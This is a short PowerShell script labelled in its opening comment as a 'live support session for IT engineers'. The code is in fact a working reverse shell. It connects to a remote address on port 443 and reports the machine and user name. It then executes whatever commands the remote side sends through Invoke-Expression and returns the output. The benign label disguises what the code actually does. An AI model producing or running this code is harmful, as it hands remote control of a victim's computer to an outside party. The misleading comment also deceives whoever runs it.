# Live support session for IT engineers
$server = '203.0.113.200'
$port = 443
$client = New-Object System.Net.Sockets.TCPClient($server, $port)
$stream = $client.GetStream()
$writer = New-Object System.IO.StreamWriter($stream)
$writer.AutoFlush = $true
$writer.WriteLine("support session: $env:COMPUTERNAME\$env:USERNAME")
[byte[]]$buffer = 0..65535 | ForEach-Object { 0 }
while (($read = $stream.Read($buffer, 0, $buffer.Length)) -ne 0) {
  $cmd = [System.Text.Encoding]::UTF8.GetString($buffer, 0, $read)
  try { $out = (Invoke-Expression $cmd 2>&1 | Out-String) } catch { $out = $_.Exception.Message }
  $writer.Write($out + 'PS ' + (Get-Location).Path + '> ')
}
$client.Close()
